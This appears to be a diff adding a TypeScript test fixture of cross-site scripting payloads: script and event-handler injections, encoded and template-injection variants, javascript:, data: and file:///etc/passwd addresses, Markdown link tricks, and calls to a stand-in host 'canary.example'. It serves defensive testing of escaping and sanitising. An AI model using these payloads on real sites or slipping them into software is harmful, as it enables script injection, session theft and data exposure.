@@ -1,0 +1,213 @@
+/*
+ * Texts that would run a script where they are taken for HTML, for an address, or for Markdown that becomes either. Whatever runs
+ * sets a variable, opens a dialog or asks CANARY for something. Our own collection; the techniques are common knowledge.
+ */
+
+/** A host that nothing of ours ever asks. */
+export const CANARY = "canary.example";
+
+const RUN = "pwned=1";
+const ASK = `//${CANARY}/x`;
+
+/** HTML that was not escaped. */
+const ELEMENTS = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=${ASK}.js></SCRIPT>`,
+  `<script src="${ASK}"></script >`,
+  `<script/x>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\t>${RUN}</script>`,
+  `<script>alert(1)//`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `\`><script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x onerror='alert(1)'>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x OnErRoR=${RUN}>`,
+  `<img src="x\`onerror=${RUN}//">`,
+  `<img src=x onerror=\`${RUN}\`>`,
+  `<img src=x onerror&#61;${RUN}>`,
+  `<img src=x onerror=&#112;&#119;&#110;&#101;&#100;=1>`,
+  `<img src=${ASK}.png>`,
+  `<img srcset="${ASK} 1x">`,
+  `<img src=x:alert(1) onerror=eval(src)>`,
+  `<img """><script>${RUN}</script>">`,
+  `<image src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${ASK}"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${RUN} attributeName=x>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>">`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<body background="${ASK}">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="${ASK}"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="${ASK}">`,
+  `<video src=x onerror=${RUN}></video>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<video poster="${ASK}"></video>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<p style="animation:x" onanimationstart=${RUN}>x</p>`,
+  `<style>@import "${ASK}";</style>`,
+  `<style>*{background:url(${ASK})}</style>`,
+  `<p style="background:url(${ASK})">x</p>`,
+  `<link rel=stylesheet href="${ASK}">`,
+  `<link rel=prefetch href="${ASK}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=https://${CANARY}/">`,
+  `<base href="https://${CANARY}/">`,
+  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<isindex action="javascript:${RUN}" type=image>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=javascript:${RUN}>x</a>`,
+  `<a onmouseover=${RUN}>x</a>`,
+  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!-- --!><img src=x onerror=${RUN}>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<!DOCTYPE x [<!ENTITY y SYSTEM "https://${CANARY}/">]>&y;`,
+];
+
+/** HTML that is escaped already, or in other letters: it must not be unescaped, or made equal. */
+const ENCODED = [
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\\x3cimg src=x onerror=${RUN}\\x3e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `＜script＞${RUN}＜/script＞`,
+  `‹script›${RUN}‹/script›`,
+  `<ſcript>${RUN}</ſcript>`,
+  `<İmg src=x onerror=${RUN}>`,
+  `<img\u00a0src=x\u00a0onerror=${RUN}>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `';${RUN};'`,
+  `";${RUN};//`,
+  `\`+${RUN}+\``,
+  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
+];
+
+/** Addresses that run or fetch something. */
+export const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `javascript&#58;${RUN}`,
+  `javascript&#x3A;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `java&#10;script:${RUN}`,
+  `java&Tab;script:${RUN}`,
+  `java&NewLine;script:${RUN}`,
+  `java%0ascript:${RUN}`,
+  `&#1;javascript:${RUN}`,
+  `javascript://${CANARY}/%0a${RUN}`,
+  `javascript:javascript:${RUN}`,
+  `vbscript:msgbox(1)`,
+  `livescript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `DATA:text/html,x`,
+  `blob:https://${CANARY}/x`,
+  `file:///etc/passwd`,
+  `filesystem:https://${CANARY}/x`,
+  `view-source:javascript:${RUN}`,
+  `about:blank#javascript:${RUN}`,
+  `feed:javascript:${RUN}`,
+  `jar:https://${CANARY}!/x`,
+  `tel:+33123456789`,
+  `intent://x#Intent;scheme=javascript;end`,
+];
+
+/** Those addresses as Markdown would make links and pictures of them, and what Markdown lets through as HTML. */
+const MARKDOWN = [
+  ...ADDRESSES.map((address) => `[x](${address})`),
+  ...ADDRESSES.slice(0, 8).map((address) => `[x](<${address}>)`),
+  ...ADDRESSES.slice(0, 4).map((address) => `<${address}>`),
+  ...ADDRESSES.slice(0, 4).map((address) => `![x](${address})`),
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `[y]: <javascript:${RUN}> "y"\n\n[a][y] [y][] ![y]`,
+  `[z]:\njavascript:${RUN}\n\n[z]`,
+  `![x](https://${CANARY}/x.png)`,
+  `![x](https://${CANARY}/x.png "x" onerror=${RUN})`,
+  `![x][p]\n\n[p]: https://${CANARY}/p.png`,
+  `[![x](https://${CANARY}/x.png)](javascript:${RUN})`,
+  `[<img src=x onerror=${RUN}>](https://example.org)`,
+  `[x](https://example.org "<img src=x onerror=${RUN}>")`,
+  `[x](https://example.org'onmouseover='${RUN})`,
+  `[x](https://example.org"onmouseover="${RUN})`,
+  `[x](<https://example.org" onmouseover="${RUN}>)`,
+  `[x](javascript:window.onerror=alert;throw%201)`,
+  `[x](\\javascript:${RUN})`,
+  `[x]( javascript:${RUN} )`,
+  `[x](//${CANARY}/x)`,
+  `[x](\\\\${CANARY}\\x)`,
+  `[x](/trpc/auth.me)`,
+  `[x](?next=javascript:${RUN})`,
+  `[x](#"><img src=x onerror=${RUN}>)`,
+  `<https://example.org"onmouseover=${RUN}>`,
+  `<a@example.org"onmouseover=${RUN}>`,
+  `\`<img src=x onerror=${RUN}>\``,
+  `\`\`\`html"onmouseover="${RUN}\n<script>${RUN}</script>\n\`\`\``,
+  `    <script>${RUN}</script>`,
+  `> <script>${RUN}</script>`,
+  `- <img src=x onerror=${RUN}>`,
+  `# <img src=x onerror=${RUN}>`,
+  `**<img src=x onerror=${RUN}>**`,
+  `<div>\n\n[x](javascript:${RUN})\n\n</div>`,
+  `<b onmouseover=${RUN}>x</b>`,
+  `<!-- [x](javascript:${RUN}) --> <img src=x onerror=${RUN}>`,
+  `[a](javascript:${RUN} "b\n\nc")`,
+  `[a\\](javascript:${RUN})`,
+  `[[x](javascript:${RUN})](https://example.org)`,
+  `***[x](javascript:${RUN})***`,
+  `[x](https://example.org/\u202egnp.exe)`,
+  `[https://bank.example](https://user:pw@${CANARY}/)`,
+];
+
+/** Each of them belongs in every text that people may write. */
+export const SCRIPT_PAYLOADS: readonly string[] = [...ELEMENTS, ...ENCODED, ...ADDRESSES, ...MARKDOWN];
+
+/** Joined by spaces, as many as a field has room for: a text is safe only if all that is in it is. */
+export function packed(payloads: readonly string[], room: number): string[] {
+  const texts: string[] = [];
+  // Fields of one line refuse line breaks, tabs, and what turns the direction of text.
+  for (const payload of payloads.map((text) => text.replaceAll(/[\n\t\u202e]/g, " "))) {
+    const last = texts.at(-1);
+    if (last !== undefined && last.length + 1 + payload.length <= room) texts[texts.length - 1] = `${last} ${payload}`;
+    else if (payload.length <= room) texts.push(payload);
+  }
+  return texts;
+}
